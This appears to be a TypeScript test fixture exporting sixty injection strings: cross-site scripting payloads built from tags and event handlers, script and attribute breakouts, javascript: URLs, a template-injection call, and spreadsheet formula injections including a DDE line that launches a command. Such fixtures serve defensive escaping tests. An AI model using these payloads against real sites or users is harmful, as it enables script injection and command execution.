const CALL = 'window.attacked=1';

const TAGS = ['img src=x', 'svg', 'body', 'video src=x', 'iframe', 'details open', 'input autofocus', 'marquee'];
const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart'];

const FORMULAS = ['=HYPERLINK("http://x","y")', '+1+1', '-2+3', '@SUM(1)', '\t=1', "=cmd|' /C calc'!A0"];

const OTHERS = [
  `<script>${CALL}</script>`,
  `"><script>${CALL}</script>`,
  `'-${CALL}-'`,
  `</textarea><script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `javascript:${CALL}`,
  `<a href="javascript:${CALL}">x</a>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  '{{constructor.constructor("window.attacked=1")()}}',
  `\${${CALL}}`,
  `<math><mtext></mtext><script>${CALL}</script></math>`,
  `<template><script>${CALL}</script></template>`,
  `<style>@import 'javascript:${CALL}'</style>`,
  `<base href="javascript:${CALL}//">`,
];

/** Sixty texts that try to become markup, script or a formula where they are shown. */
export const PAYLOADS: readonly string[] = [
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=${CALL}>`)),
  ...OTHERS,
  ...FORMULAS,
];
